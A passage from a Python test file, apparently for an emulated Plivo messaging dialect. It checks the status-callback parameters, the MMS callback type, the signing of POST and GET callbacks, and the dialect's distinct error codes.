    assert names.index("ErrorCode") == names.index("TotalAmount") + 1


def test_mms_callback_type() -> None:
    params = dict(STATUS_CALLBACKS.params(message_facts(media_urls=("https://m/1.jpg",))))
    assert params["Type"] == "mms"


def test_post_callback_signature() -> None:
    url = "https://app.example/plivo/status?msg=1"
    params = STATUS_CALLBACKS.params(message_facts(status="delivered"))
    headers = STATUS_CALLBACKS.signature_headers(url, params, TOKEN)
    assert_signed("POST", url, dict(params), headers)


def test_get_callback_signature_as_the_engine_makes_it() -> None:
    # For callbackMethod GET the engine signs the URL with the params appended and no form.
    url = "https://app.example/plivo/status"
    params = STATUS_CALLBACKS.params(message_facts(status="undelivered", error_code=30003))
    sent = append_query(url, params)
    headers = STATUS_CALLBACKS.signature_headers(sent, [], TOKEN)
    assert_signed("GET", sent, {}, headers)
    assert_signed("GET", sent, dict(params), headers)


# --- The dialect as a whole -------------------------------------------------------------------


def test_dialect_shape() -> None:
    dialect: Dialect = DIALECT
    assert dialect.name == "plivo"
    assert dialect.status_callbacks is STATUS_CALLBACKS
    assert dialect.errors is ERRORS
    codes = [
        ERRORS.fetch_failed,
        ERRORS.bad_status,
        ERRORS.bad_content_type,
        ERRORS.parse_failed,
        ERRORS.voice_verb_on_text,
    ]
    assert len(set(codes)) == 5
